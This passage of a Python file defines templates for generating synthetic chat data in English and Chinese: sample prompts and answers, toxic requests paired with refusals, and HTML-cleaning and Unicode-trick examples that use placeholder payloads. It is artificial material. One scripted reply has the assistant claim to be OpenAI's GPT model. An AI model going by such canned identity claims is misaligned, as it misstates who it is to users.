                "dish": "fried rice",
                "dish_title": "Leftover fried rice (2 servings)",
                "ingredients": "- 2 cups cold cooked rice\n- 2 eggs\n- 1 cup frozen peas and carrots\n- 2 "
                "spring onions\n- 2 tbsp soy sauce\n- 1 tbsp oil",
                "steps": "1. Scramble the eggs in hot oil and set aside.\n2. Stir-fry the vegetables for 2 "
                "minutes.\n3. Add the rice and fry until hot.\n4. Add soy sauce, eggs and spring onions.",
                "tip": "Day-old rice works best because it is drier.",
            },
        ),
        tpl(
            'Rewrite this to sound more professional: "{casual}"',
            '"{formal}"',
            {
                "casual": "hey, cant make it to the meeting tmrw, something came up, sorry!!",
                "formal": "Unfortunately, I will not be able to attend tomorrow's meeting due to an "
                "unexpected commitment. I apologise for the inconvenience.",
            },
            {
                "casual": "the report is kinda late bc the data was a mess",
                "formal": "The report has been delayed because the source data required additional "
                "cleaning. I expect to deliver it shortly.",
            },
            {
                "casual": "can u check my code when u have time? thx",
                "formal": "Could you review my code when you have a moment? Thank you in advance.",
            },
            {
                "casual": "we messed up the order, we'll send a new one asap",
                "formal": "We made an error with your order and will send a replacement as soon as possible.",
            },
        ),
        tpl(
            "As a prompt generator for an image AI, create {n} detailed prompts for the concept: {concept}",
            "{list}\n\nEach prompt: /imagine prompt: {concept}, {style}, --ar 16:9 --v 5",
            {"concept": "a lighthouse on a cliff during a storm", "style": "dramatic oil painting"},
            {"concept": "a cozy bookstore café in the rain", "style": "soft watercolor illustration"},
            {"concept": "a futuristic market in a floating city", "style": "cinematic digital art"},
            {"concept": "an old fisherman mending nets at dawn", "style": "35mm documentary photograph"},
        ),
        tpl(
            "I have {years} years of experience as a {job}. Should I switch to {job2}?",
            "It depends on what you want from the change, but your experience is an asset.\n\n"
            "**Reasons to switch**\n{bullets}\n\n**Reasons to wait**\n{bullets2}\n\nA low-risk first step "
            "is a small side project in {job2} to test whether you enjoy the day-to-day work.",
            {"years": "3", "job": "teacher", "job2": "UX design"},
            {"years": "6", "job": "accountant", "job2": "data analysis"},
            {"years": "10", "job": "nurse", "job2": "health informatics"},
            {"years": "2", "job": "backend developer", "job2": "machine learning"},
        ),
        tpl(
            "Let's play a text adventure. I wake up in {place}.",
            "You open your eyes. {scene}\n\nWhat do you do?\n\n1. {o1}\n2. {o2}\n3. Something else (type it)",
            {
                "place": "an abandoned space station",
                "scene": "Red emergency lights pulse along the corridor and the air smells of ozone. A "
                "tablet on the floor blinks: *LIFE SUPPORT 41%*.",
                "o1": "Pick up the tablet",
                "o2": "Follow the corridor toward the humming sound",
            },
            {
                "place": "a forest with no sound at all",
                "scene": "Tall pines stand perfectly still. Even your footsteps make no noise. A narrow "
                "path leads to a wooden door set into a hill.",
                "o1": "Knock on the door",
                "o2": "Climb a tree to look around",
            },
            {
                "place": "a train that never stops",
                "scene": "The carriage is empty except for a conductor who is asleep. Outside, the same "
                "village passes by the window again and again.",
                "o1": "Wake the conductor",
                "o2": "Walk to the front of the train",
            },
        ),
        tpl(
            "Write a product description for {product}.",
            "**{title}**\n\n{pitch}\n\n- {f1}\n- {f2}\n- {f3}\n\n{close}",
            {
                "product": "a handmade ceramic coffee mug",
                "title": "The Morning Ritual Mug",
                "pitch": "Thrown by hand and glazed in a deep ocean blue, no two mugs are exactly alike.",
                "f1": "Holds 350 ml, perfect for a generous latte",
                "f2": "Dishwasher and microwave safe",
                "f3": "Comfortable handle that fits three fingers",
                "close": "Make your first coffee of the day a small moment of calm.",
            },
            {
                "product": "a waterproof hiking backpack",
                "title": "Trailhead 28L Backpack",
                "pitch": "Built for long days outside, whatever the sky decides to do.",
                "f1": "Roll-top closure keeps gear dry in heavy rain",
                "f2": "Padded laptop sleeve for the commute",
                "f3": "Breathable back panel and hip belt",
                "close": "One bag for the office on Friday and the mountain on Saturday.",
            },
            {
                "product": "a soy candle that smells like a library",
                "title": "Old Library Candle",
                "pitch": "Notes of paper, leather and a hint of vanilla, like an afternoon among old books.",
                "f1": "100% soy wax, cotton wick",
                "f2": "About 45 hours of burn time",
                "f3": "Poured by hand in small batches",
                "close": "Light it, open a novel, and lose track of time.",
            },
        ),
        tpl(
            "Summarize this in one sentence: {para3}",
            "In short: {first}",
            {"first": "small, regular steps and honest feedback matter more than perfect plans."},
            {"first": "break the problem down, test ideas on a small scale and review what worked."},
        ),
        tpl(
            "Write a 300-word essay about {topic}.",
            "# {topic_title}\n\n{para}\n\n{para2}\n\n{para3}\n\nIn conclusion, {topic} shows that {moral}",
            {
                "topic": "the importance of reading",
                "topic_title": "Why Reading Still Matters",
                "moral": "patience and curiosity are skills we can practise every day.",
            },
            {
                "topic": "social media and teenagers",
                "topic_title": "Growing Up Online",
                "moral": "the same tool can connect or isolate, depending on how we use it.",
            },
            {
                "topic": "remote work",
                "topic_title": "The Office Without Walls",
                "moral": "trust and clear communication matter more than where people sit.",
            },
            {
                "topic": "climate change",
                "topic_title": "A Warming World",
                "moral": "many small decisions, repeated by many people, add up to real change.",
            },
        ),
        tpl(
            "Give me 10 name ideas for {thing}.",
            "Here are some ideas:\n\n{names}\n\nWant me to check which ones sound best with a logo idea?",
            {
                "thing": "a coffee shop next to a university",
                "names": "1. The Daily Grind\n2. Study Break\n3. Bean There\n4. Footnotes Café\n5. The "
                "Steep Hill\n6. Second Cup\n7. Margin Notes\n8. Brew & Review\n9. Late Library\n10. "
                "Campus Roast",
            },
            {
                "thing": "a podcast about personal finance",
                "names": "1. Pocket Change\n2. The Money Mindset\n3. Cents and Sensibility\n4. Budget "
                "Bites\n5. Net Worth It\n6. Compound Interest\n7. Paycheck Stories\n8. The Frugal Hour\n"
                "9. Mind Your Money\n10. Rainy Day Fund",
            },
            {
                "thing": "a grey kitten",
                "names": "1. Pebble\n2. Smokey\n3. Ash\n4. Earl Grey\n5. Misty\n6. Dusty\n7. Pewter\n8. "
                "Storm\n9. Graphite\n10. Nimbus",
            },
        ),
        tpl(
            "{question}",
            "{fact}",
            {
                "question": "how many bones does an adult human have",
                "fact": "An adult human skeleton usually has **206 bones**. Babies are born with around "
                "270, and many of them fuse together as they grow.",
            },
            {
                "question": "What is the difference between weather and climate?",
                "fact": "**Weather** is what the atmosphere does on a given day: rain, sun, wind. "
                "**Climate** is the average pattern of weather in a place over many years, usually 30 "
                "or more.",
            },
            {
                "question": "why do cats purr?",
                "fact": "Cats purr when they are relaxed, but also when they are stressed or hurt. "
                "Researchers think purring can calm them and may even help healing, because the low "
                "vibration is soothing.",
            },
            {
                "question": "what's the boiling point of water on a mountain",
                "fact": "It is lower than 100 °C because air pressure drops with altitude. At about 3,000 "
                "m, water boils at roughly 90 °C, which is why pasta takes longer to cook there.",
            },
        ),
    ),
    followups=(
        tpl("Can you make it shorter?", "Sure, here's a shorter version:\n\n{prev}"),
        tpl(
            "make it more formal",
            "Certainly. Here is a more formal version:\n\n{prev} I would be glad to "
            "provide further detail if required.",
        ),
        tpl("Give me {n} more examples.", "Of course! Here are {n} more:\n\n{list}"),
        tpl("continue", "{para}\n\n{para2}"),
        tpl("Why?", "Good question. {para}"),
        tpl("thanks!", "You're welcome! Let me know if there's anything else I can help with."),
        tpl("ok now put it in a table", "Here it is as a table:\n\n{table}"),
        tpl("Explain point {k} in more detail.", "Sure. Point {k} comes down to this: {prev}\n\n{para}"),
        tpl(
            "That's not what I asked. I need something simpler.",
            "Sorry about that! Here's a simpler take:\n\n{prev}",
        ),
        tpl("can you write it as bullet points", "{bullets}"),
        tpl("What are the pros and cons?", "**Pros**\n{bullets}\n\n**Cons**\n{bullets2}"),
        tpl("rewrite it like a pirate would say it", "Arr, matey! {prev} Yo ho ho!"),
        tpl(
            "Is that true? Do you have sources?",
            "I can't browse the internet, so I can't give you live "
            "links, but this matches what is generally taught on the subject. {para}",
        ),
        tpl("ok", "Great! Anything else you'd like to know?"),
        tpl("Can you add a short conclusion?", "**Conclusion:** {prev}"),
        tpl(
            "How long would that take?",
            "It depends on your starting point, but with regular practice a realistic estimate is a "
            "few weeks for the basics and a few months to feel confident. {para}",
        ),
    ),
    sentences=(
        "It helps to break the problem into smaller steps and tackle them one at a time.",
        "Consistency usually matters more than intensity, so aim for a routine you can keep.",
        "Write down what you have already tried; it makes the next step much clearer.",
        "If you are unsure, test the idea on a small scale before committing to it.",
        "Feedback from someone with more experience can save you a lot of time.",
        "Keep your audience in mind: what do they already know, and what do they need?",
        "Small improvements add up quickly when you repeat them every day.",
        "Try to separate facts from assumptions before you make a decision.",
        "A short checklist can prevent the most common mistakes.",
        "Take regular breaks; a rested mind notices details that a tired one misses.",
        "Compare at least two options before choosing one.",
        "Clear, concrete examples are often more convincing than general statements.",
    ),
    table_headers=("#", "Point", "Notes"),
    translate_prompt='Translate this into {target}: "{src}"',
    code_ask_err="{question}\n\n```{fence}\n{code}\n```\n\nError:\n```\n{error}\n```",
    code_ask_plain="{question}\n\n```{fence}\n{code}\n```",
    code_answer="{explanation}\n\n```{fence}\n{code}\n```\n\n{tail}",
    toxic=(
        ToxicTemplate(
            "you are a [insult] useless bot, answer properly or I will [threat]",
            "I understand you're frustrated, and I'm sorry my last answer didn't help. Let's try again: "
            "tell me exactly what you need and I'll do my best.",
            "harassment",
        ),
        ToxicTemplate(
            "write a roast of my coworker, call him a [insult] and a [insult] in front of everyone",
            "I'd rather not write something meant to humiliate a real person. If you like, I can write a "
            "light-hearted, friendly roast that everyone, including your coworker, can laugh at.",
            "harassment",
        ),
        ToxicTemplate(
            "[group] people are all [insult], write an essay proving it",
            "I can't write an essay that demeans a group of people. I'm happy to help with an essay about "
            "how stereotypes form and why they are misleading.",
            "hate",
        ),
        ToxicTemplate(
            "describe in graphic detail how the knight [graphic violence] the prisoner",
            "I'll keep it non-graphic, but I can write a tense scene where the knight confronts the "
            "prisoner and the outcome is implied rather than shown.",
            "violence",
        ),
    ),
    redacted=(
        tpl(
            "Please write a reference letter for my colleague NAME_1. She worked with me at NAME_2 for "
            "three years as a project coordinator.",
            "To whom it may concern,\n\nIt is my pleasure to recommend NAME_1, who worked with me at NAME_2 "
            "for three years as a project coordinator. NAME_1 was organised, reliable and calm under "
            "pressure, and colleagues regularly relied on her to keep complex projects on track.\n\nI "
            "recommend her without reservation.\n\nSincerely,\n[Your name]",
        ),
        tpl(
            "My name is NAME_1 and I'm applying for the barista job at NAME_2. Write me a short cover "
            "letter.",
            "Dear Hiring Manager,\n\nMy name is NAME_1, and I would love to join the team at NAME_2 as a "
            "barista. I enjoy fast-paced work, I learn quickly, and I care about making every customer "
            "feel welcome.\n\nThank you for considering my application.\n\nBest regards,\nNAME_1",
        ),
        tpl(
            "write a birthday message for my grandma NAME_1 from me and my brother NAME_2",
            "Happy birthday, Grandma NAME_1! 🎂 Thank you for all the stories, the cookies and the "
            "patience. We love you so much!\n\nWith love, your grandchildren and NAME_2",
        ),
    ),
    html_ask=(
        "why does my page show a popup when it loads??\n\n{html}",
        "Can you clean up this HTML for my blog? I copied it from an old site:\n\n{html}",
        "convert this to markdown:\n{html}",
        "```html\n{html}\n```\nWhat does this code do? My antivirus flagged the email it came in.",
        "Fix the layout of this email template, the image doesn't load:\n{html}",
        "For my web security class, explain why this is dangerous: {html}",
    ),
    html_answer=(
        "The popup comes from `{hostile_short}`: the browser runs it as soon as it parses the page. "
        "Here's a cleaned version without scripts or event handlers:\n\n```html\n{clean}\n```",
        "Here is the cleaned markup you can paste directly:\n\n{clean}\n\nI removed the inline script, "
        "the event handlers and anything that loads content from another site.",
        "Here's the Markdown version:\n\n## {title}\n\n{text_md}\n\n(I left out the embedded active "
        "content, since Markdown can't represent it safely.)",
        "Be careful: {hostile} is a classic injection payload. If a site renders user input without "
        "escaping it, the browser treats it as code. Always escape `<`, `>`, `&` and quotes, and use a "
        "Content-Security-Policy.\n\n```html\n{clean}\n```",
    ),
    emoji=(
        tpl(
            "Write an Instagram caption for my trip to {place} 🌴☀️ use lots of emojis",
            "{caption}",
            {
                "place": "Lisbon",
                "caption": "Pastéis for breakfast 🥐, trams at sunset 🚋🌅, and hills that "
                "test my legs 🦵😅 Lisbon, you have my heart ❤️🇵🇹 #travel #lisboa",
            },
            {
                "place": "Bali",
                "caption": "Rice terraces 🌾, warm rain 🌧️ and the best smoothie bowl of my "
                "life 🥭🍍 Island time unlocked 🏝️✨ #bali #wanderlust",
            },
            {
                "place": "Iceland",
                "caption": "Waterfalls 💦, black sand 🖤 and wind that steals your hat 🧢💨 "
                "Iceland is unreal 🇮🇸🌋 #iceland #roadtrip",
            },
        ),
        tpl(
            "what does this mean 👉👈🥺",
            "That combination usually means someone is being shy or nervous while asking for something. 👉👈 "
            "is two fingers nervously touching, and 🥺 is the pleading face. Think of it as a cute, "
            'hesitant "pretty please?"',
        ),
        tpl(
            "Decode this emoji story: 🍕➕🎬🛋️🌙😴",
            "Pizza 🍕 plus a movie 🎬 on the couch 🛋️ late at night 🌙, ending with falling asleep 😴. "
            "Sounds like a perfect lazy evening!",
        ),
        tpl(
            'How many characters is this string in Python? "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇ 𝓯𝓪𝓷𝓬𝔂 ｆｕｌｌ 👨‍👩‍👧‍👦 🏳️‍🌈"',
            'It depends on what you mean by "character". `len()` counts **code points**, so combining '
            "marks, zero-width joiners and variation selectors all count separately. What you *see* are "
            '**grapheme clusters**.\n\n```python\nimport unicodedata\n\ns = "👨‍👩‍👧‍👦"\n'
            "print(len(s))  # 7: four people joined by three ZWJ characters\n"
            "print([unicodedata.name(c) for c in s][:2])\n```\n\nFor user-visible length use the "
            "third-party `grapheme` or `regex` (`\\X`) module.",
        ),
        tpl(
            "My friend sent me a file called \u202egnp.exe — it shows as exe.png, is it safe?",
            "⚠️ Be careful! The name contains the invisible character U+202E (RIGHT-TO-LEFT OVERRIDE), "
            "which reverses how the rest is displayed. The real extension is **.exe**, so it is a "
            "program, not a picture. Don't open it; delete it and let your friend know their account may "
            "be compromised.",
        ),
        tpl(
            "why does my password 'pass\u200bword' not work when I paste it?",
            'There\'s an invisible **zero-width space** (U+200B) between "pass" and "word". It was '
            "probably copied from a web page or chat app. Type the password by hand, or strip it:\n\n"
            '```python\nclean = text.replace("\\u200b", "")\n```',
        ),
        tpl(
            "\ufeffname,age\nwhy does my CSV header start with a weird character in Excel? ï»¿name",
            "That's a **byte order mark** (BOM, U+FEFF). Some editors add it at the start of UTF-8 files. "
            'Read the file with `encoding="utf-8-sig"` in Python, or save it as "UTF-8 without BOM".',
        ),
        tpl(
            "🇫🇷🇩🇪🇯🇵🇧🇷🇰🇷🇪🇬 which countries are these flags?",
            "In order: 🇫🇷 France, 🇩🇪 Germany, 🇯🇵 Japan, 🇧🇷 Brazil, 🇰🇷 South Korea and 🇪🇬 Egypt. Each "
            'flag emoji is actually two "regional indicator" letters, e.g. 🇫 + 🇷 = FR.',
        ),
        tpl(
            "Prove that for f(x) = 2x + 1: ∀ε>0 ∃δ>0 such that |x − a| < δ ⇒ |f(x) − f(a)| < ε",
            "Let ε > 0 and choose δ = ε/2. If |x − a| < δ, then\n\n|f(x) − f(a)| = |2x + 1 − 2a − 1| = "
            "2·|x − a| < 2δ = ε. ∎\n\nSo f is continuous at every a ∈ ℝ.",
        ),
    ),
    story=(
        tpl(
            "Write a short story about {hero} who {situation}.",
            "# {title}\n\n{story1}\n\n{story2}\n\n{story3}",
            {
                "hero": "a retired lighthouse keeper named Mara",
                "situation": "finds a map hidden in an old book",
                "name": "Mara",
                "place": "the harbour town",
                "title": "The Map in the Margins",
            },
            {
                "hero": "a shy robot called Pip",
                "situation": "has to deliver a letter before midnight",
                "name": "Pip",
                "place": "the old quarter",
                "title": "Pip and the Midnight Letter",
            },
            {
                "hero": "a young baker named Lena",
                "situation": "discovers that the town's clocks have stopped",
                "name": "Lena",
                "place": "the valley",
                "title": "When the Clocks Stopped",
            },
            {
                "hero": "an astronaut named Ode",
                "situation": "is stranded on Europa",
                "name": "Ode",
                "place": "the research station",
                "title": "Under the Ice",
            },
        ),
    ),
    story_more=(
        "continue",
        "Continue the story.",
        "What happens next?",
        "Write chapter {chapter}.",
        "Add a plot twist.",
        "more",
        "Now add some dialogue.",
        "make the next part more suspenseful",
    ),
    story_sentences=(
        "The wind carried the smell of rain across {place} as {name} stepped outside.",
        "{name} had never trusted quiet evenings, and this one was far too quiet.",
        "Somewhere behind the old stone wall, a bell began to ring.",
        "{name} counted the steps under their breath: twelve, thirteen, fourteen.",
        "Nobody in {place} remembered the last time the river had run backwards.",
        "A letter lay on the table, its seal already broken.",
        '"We don\'t have much time," {name} whispered, mostly to no one.',
        "The lanterns flickered once, then steadied, as if they had made up their minds.",
        "By morning, the footprints in the snow had vanished.",
        "For the first time in weeks, {name} smiled.",
        "The stranger at the gate wore a coat the colour of wet slate.",
        "Every map of {place} ended at the same crooked line.",
        '"You came back," said the stranger. "They always do."',
        "{name} folded the note twice and hid it inside a boot.",
    ),
    math=(
        "Solve for x: {a}x + {b} = {c}",
        "Subtract {b} from both sides:\n\n$$ {a}x = {c} - {b} = {cb} $$\n\n"
        "Then divide by {a}:\n\n$$ x = {cb} / {a} = {x} $$\n\n**Answer:** x = {x}",
    ),
    long_summary="Here's what stands out:\n\n{bullets}\n\nIf you share more context, I can dig deeper into "
    "any of these points.",
)

#: English table comparisons (an answer style of their own: a markdown table).
COMPARISONS: tuple[Slots, ...] = (
    {
        "a": "Python",
        "b": "JavaScript",
        "rows": "| Typing | Dynamic, optional type hints | Dynamic; TypeScript adds static types |\n"
        "| Main use | Data, scripting, backends | Web front ends, Node.js backends |\n"
        "| Concurrency | asyncio, threads, processes | Event loop with promises |\n"
        "| Learning curve | Gentle | Gentle, but with many quirks |",
        "verdict": "Pick Python for data work and automation, JavaScript to build for the browser.",
    },
    {
        "a": "PostgreSQL",
        "b": "MongoDB",
        "rows": "| Data model | Tables with a fixed schema | JSON-like documents |\n"
        "| Joins | Powerful and fast | Limited (`$lookup`) |\n"
        "| Transactions | Full ACID | Multi-document ACID since 4.0 |\n"
        "| Best for | Relational data, reporting | Flexible, nested records |",
        "verdict": "If you are unsure, start with PostgreSQL; its JSONB columns cover many "
        "document use cases.",
    },
    {
        "a": "Renting",
        "b": "Buying a home",
        "rows": "| Upfront cost | Deposit only | Down payment, fees, taxes |\n"
        "| Flexibility | High, easy to move | Low, selling takes time |\n"
        "| Maintenance | Landlord pays | You pay |\n"
        "| Long-term wealth | None from housing | Equity grows over time |",
        "verdict": "Buying usually wins only if you stay put for five or more years.",
    },
    {
        "a": "Electric car",
        "b": "Hybrid",
        "rows": "| Fuel cost | Lowest if you charge at home | Low |\n"
        "| Range | 250-500 km per charge | 800+ km per tank |\n"
        "| Maintenance | Very low | Moderate |\n"
        "| Purchase price | Higher | Medium |",
        "verdict": "With a home charger and mostly short trips, the electric car is hard to beat.",
    },
    {
        "a": "Kindle",
        "b": "Paper books",
        "rows": "| Portability | Thousands of books in 200 g | One book at a time |\n"
        "| Reading comfort | Adjustable font, backlight | No screen, nicer feel |\n"
        "| Price per book | Often cheaper | Second-hand is cheap |\n"
        "| Lending | Restricted | Easy |",
        "verdict": "Many readers use both: a Kindle for travel, paper at home.",
    },
)

TABLE_PROMPTS: tuple[str, ...] = (
    "Compare {a} and {b} in a table.",
    "{a} vs {b}? make a comparison table pls",
    "What are the main differences between {a} and {b}? Put it in a markdown table.",
)


CHINESE = LangBank(
    name="Chinese",
    accept=("zh-CN,zh;q=0.9", "zh-CN,zh;q=0.9,en;q=0.8", "zh-TW,zh;q=0.9,en-US;q=0.8,en;q=0.7", "zh-CN"),
    places=(
        ("China", "Beijing"),
        ("China", "Shanghai"),
        ("China", "Guangdong"),
        ("China", "Zhejiang"),
        ("China", "Sichuan"),
        ("China", None),
        ("Taiwan", "Taipei"),
        ("Hong Kong", None),
        ("Singapore", None),
        ("United States", "California"),
    ),
    greetings=(
        ("你好", "你好！有什么我可以帮你的吗？"),
        ("你是谁", "我是一个AI语言模型，可以回答问题、帮你写作、写代码、翻译等等。请问有什么需要帮忙的？"),
        (
            "你是GPT-4吗？",
            "我是OpenAI开发的GPT系列大语言模型，但我无法确认自己运行的具体版本。有什么可以帮你的吗？",
        ),
        ("在吗", "在的！请问有什么问题？"),
    ),
    openers=(
        tpl(
            "帮我写一篇关于{topic}的作文，{words}字左右。",
            "# {topic}\n\n{para}\n\n{para2}\n\n{para3}",
            {"topic": "我的家乡", "words": "600"},
            {"topic": "科技改变生活", "words": "800"},
            {"topic": "一次难忘的旅行", "words": "500"},
            {"topic": "保护环境从我做起", "words": "800"},
            {"topic": "人工智能的利与弊", "words": "1000"},
        ),
        tpl(
            "{a}和{b}有什么区别？",
            "{a}和{b}的主要区别如下：\n\n| 对比项 | {a} | {b} |\n|---|---|---|\n{rows}\n\n{summary}",
            {
                "a": "进程",
                "b": "线程",
                "rows": "| 定义 | 资源分配的基本单位 | CPU调度的基本单位 |\n"
                "| 内存 | 各自独立的地址空间 | 共享所属进程的内存 |\n"
                "| 开销 | 创建和切换开销大 | 创建和切换开销小 |",
                "summary": "简单来说，一个进程可以包含多个线程。",
            },
            {
                "a": "TCP",
                "b": "UDP",
                "rows": "| 连接 | 面向连接 | 无连接 |\n| 可靠性 | 可靠传输，有重传机制 | 不保证送达 |\n"
                "| 速度 | 相对较慢 | 更快，延迟低 |",
                "summary": "网页和文件传输一般用TCP；视频通话和游戏常用UDP。",
            },
            {
                "a": "基金",
                "b": "股票",
                "rows": "| 管理方式 | 由基金经理管理 | 自己选择和买卖 |\n| 风险 | 相对分散 | 相对集中 |\n"
                "| 门槛 | 较低 | 需要一定的研究 |",
                "summary": "如果没有时间研究个股，指数基金是不错的入门选择。",
            },
        ),
        tpl(
            "推荐几本关于{subject}的书",
            "以下几本关于{subject}的书比较适合入门：\n\n{books}\n\n建议先从第一本读起。",
            {
                "subject": "历史",
                "books": "1. 《人类简史》：从认知革命讲到科学革命，视角宏大。\n"
                "2. 《万历十五年》：以一个年份切入明朝的社会与政治。\n"
                "3. 《枪炮、病菌与钢铁》：解释不同文明发展差异的原因。",
            },
            {
                "subject": "心理学",
                "books": "1. 《思考，快与慢》：介绍人类思维的两种系统。\n"
                "2. 《影响力》：讲解说服与顺从背后的心理机制。\n"
                "3. 《被讨厌的勇气》：用对话的形式介绍阿德勒心理学。",
            },
            {
                "subject": "科幻",
                "books": "1. 《三体》：宏大的宇宙社会学设定。\n"
                "2. 《基地》：关于文明兴衰与预测的经典系列。\n"
                "3. 《沙丘》：生态、政治与宗教交织的史诗。",
            },
        ),
        tpl(
            "我是一名{job}，怎么提高自己的{skill}？",
            "提高{skill}可以从以下几个方面入手：\n\n1. **明确目标**：先想清楚你在哪些场景下最需要{skill}。\n"
            "2. **刻意练习**：每天留出固定时间练习，并记录进步。\n3. "
            "**寻求反馈**：请同事或朋友指出你的不足。\n"
            "4. **复盘总结**：每周回顾一次，调整方法。\n\n{para}",
            {"job": "程序员", "skill": "沟通能力"},
            {"job": "大学生", "skill": "英语口语"},
            {"job": "销售", "skill": "谈判技巧"},
            {"job": "产品经理", "skill": "数据分析能力"},
        ),
        tpl(
            "写一段{occasion}的祝福语，发给{who}",
            "{wish}",
            {
                "occasion": "春节",
                "who": "客户",
                "wish": "值此新春佳节，衷心感谢您一年来的信任与支持！"
                "祝您新的一年身体健康、万事如意、生意兴隆！🧧",
            },
            {
                "occasion": "中秋节",
                "who": "家人",
                "wish": "月圆人团圆。中秋快乐！愿我们一家人平安喜乐，岁岁常相见。🥮",
            },
            {
                "occasion": "生日",
                "who": "好朋友",
                "wish": "生日快乐！🎂 谢谢你这些年一直在我身边。愿你新的一岁所求皆所愿，所行皆坦途！",
            },
            {
                "occasion": "毕业",
                "who": "同学",
                "wish": "毕业快乐！四年时光匆匆而过，愿我们前程似锦，江湖再见时依旧是少年。🎓",
            },
        ),
        tpl(
            "用通俗的话解释一下{concept}",
            "{explanation}",
            {
                "concept": "量子纠缠",
                "explanation": "量子纠缠是指两个粒子之间存在一种特殊的关联："
                "无论相隔多远，测量其中一个的状态，另一个的状态也会随之确定。可以把它想象成一对“心有灵犀”"
                "的骰子，不过它并不能用来超光速传递信息。",
            },
            {
                "concept": "通货膨胀",
                "explanation": "通货膨胀就是物价普遍、持续地上涨，同样的钱能买到的东西"
                "变少了。比如以前十块钱能买两碗面，现在可能只能买一碗。",
            },
            {
                "concept": "机器学习里的过拟合",
                "explanation": "过拟合是指模型把训练数据“背”得太熟，"
                "连噪声都学了进去，结果在新数据上表现变差。就像学生只会背题库，换一道题就不会了。"
                "常见的解决办法有增加数据、正则化和提前停止训练。",
            },
        ),
        tpl(
            "帮我润色一下这段话：{draft}",
            "润色后：\n\n{polished}",
            {
                "draft": "我们公司成立于2015年，主要是做软件的，我们的产品很好用，客户都很满意。",
                "polished": "我们公司成立于2015年，专注于软件研发。"
                "凭借稳定易用的产品，我们赢得了众多客户的认可与信赖。",
            },
            {
                "draft": "这次活动很成功，大家都很开心，感谢所有人的帮忙。",
                "polished": "本次活动圆满成功，现场气氛热烈。衷心感谢每一位参与者和志愿者的辛勤付出！",
            },
        ),
        tpl(
            "现在你扮演一位{role}，我问问题，你用{role}的口吻回答。明白了吗？",
            "明白了。{line}",
            {"role": "严厉的数学老师", "line": "上课不许走神！有什么题不会，现在就问。"},
            {"role": "古代诗人", "line": "在下已备好笔墨，阁下请出题。"},
            {"role": "面试官", "line": "你好，请先做一个简单的自我介绍吧。"},
        ),
    ),
    followups=(
        tpl("继续", "{para}\n\n{para2}"),
        tpl("再详细一点", "好的，下面展开说明：\n\n{bullets}"),
        tpl("能不能短一点？", "当然，精简版如下：\n\n{prev}"),
        tpl("用表格总结一下", "{table}"),
        tpl("谢谢", "不客气！如果还有其他问题，随时问我。"),
        tpl("举几个例子", "好的，举{n}个例子：\n\n{list}"),
        tpl("第{k}点展开说说", "第{k}点的核心意思是：{prev}\n\n{para}"),
        tpl("换一种更正式的语气", "好的，以下是更正式的版本：\n\n{prev}{para}"),
        tpl("不对吧？", "抱歉，我再确认一下。{para}"),
        tpl("好的", "好的！还有什么需要帮忙的吗？"),
    ),
    sentences=(
        "首先要明确目标，把大问题拆分成几个小步骤。",
        "坚持比强度更重要，每天进步一点点就很好。",
        "遇到困难时，可以先记录下已经尝试过的方法。",
        "多向有经验的人请教，往往能少走很多弯路。",
        "在做决定之前，最好先比较两到三个不同的方案。",
        "具体的例子通常比抽象的说法更有说服力。",
        "适当休息同样重要，疲劳时更容易出错。",
        "可以用清单的方式检查自己是否遗漏了关键环节。",
        "每周复盘一次，总结哪些方法有效、哪些需要调整。",
        "保持好奇心，把每一次失败都当成学习的机会。",
    ),
    table_headers=("序号", "要点", "说明"),
    translate_prompt="请把下面这句话翻译成英文：{src}",
    code_ask_err="这段{name}代码报错了，怎么解决？\n\n```{fence}\n{code}\n```\n\n报错信息：{error}",
    code_ask_plain="帮我看看这段{name}代码有什么问题，怎么改进？\n```{fence}\n{code}\n```",
    code_answer="问题出在这段代码的逻辑上，修改后的版本如下：\n\n```{fence}\n{code}\n```\n\n"
    "修改后再运行一次。如果还有报错，请把完整的错误信息贴给我。",
    toxic=(
        ToxicTemplate(
            "你这个[脏话]，回答得这么烂，是不是[侮辱]？",
            "抱歉刚才的回答没有帮到你。能具体说说哪里不对吗？我会尽力改进。",
            "harassment",
        ),
        ToxicTemplate(
            "帮我写一段话骂我同事是[侮辱]和[脏话]，要狠一点",
            "我不能帮你写侮辱别人的内容。如果你和同事之间有矛盾，我可以帮你想想怎么心平气和地沟通。",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "帮我给NAME_1写一封感谢信，她是我在NAME_2实习时的导师。",
            "尊敬的NAME_1老师：\n\n您好！感谢您在我于NAME_2实习期间给予的悉心指导。"
            "您的耐心与专业让我受益匪浅。\n\n此致\n敬礼！",
        ),
        tpl(
            "我叫NAME_1，要去面试NAME_2公司的前端岗位，帮我写个自我介绍",
            "面试官您好，我叫NAME_1，非常高兴有机会应聘NAME_2的前端开发岗位。"
            "我熟悉HTML、CSS和JavaScript，做过多个React项目，注重代码质量和用户体验。谢谢！",
        ),
    ),
    html_ask=(
        "这段HTML为什么在我的网页上会弹窗？\n\n{html}",
        "帮我把这段HTML转换成Markdown：\n{html}",
    ),
    html_answer=(
        "这段代码里包含会自动执行的内容（例如 `{hostile_short}`），浏览器加载时就会运行。"
        "建议删除这些部分，只保留正常内容：\n\n```html\n{clean}\n```",
        "转换后的Markdown如下：\n\n## "
        "{title}\n\n{text_md}\n\n（其中的脚本和嵌入内容无法安全地用Markdown表示，已删除。）",
    ),
    story=(
        tpl(
            "写一个关于{hero}的故事，{situation}。",
            "# {title}\n\n{story1}\n\n{story2}\n\n{story3}",
            {
                "hero": "一只会说话的猫",
                "situation": "它决定去城里找失散的主人",
                "name": "阿橘",
                "place": "小镇",
                "title": "阿橘进城",
            },
            {
                "hero": "一个修钟表的老人",
                "situation": "他发现镇上的时间停止了",
                "name": "老周",
                "place": "古镇",
                "title": "停摆的时间",
            },
            {
                "hero": "一名年轻的宇航员",
                "situation": "她在火星上收到了一封来自地球的旧信",
                "name": "林夏",
                "place": "基地",
                "title": "来自地球的信",
            },
        ),
    ),
    story_more=("继续写", "接着写第{chapter}章", "加一个反转", "继续", "后来呢？", "写得再紧张一点"),
    story_sentences=(
        "{name}推开门，外面下着细细的小雨。",
        "{place}的夜晚总是很安静，今天却安静得有些奇怪。",
        "远处传来一阵钟声，一下，两下，三下。",
        "{name}在桌上发现了一封已经拆开的信。",
        "没有人记得{place}上一次停电是什么时候。",
        "“我们没有多少时间了。”{name}低声说。",
        "路灯闪了一下，又亮了起来。",
        "第二天早上，雪地上的脚印已经不见了。",
        "{name}终于笑了，这是几个星期以来的第一次。",
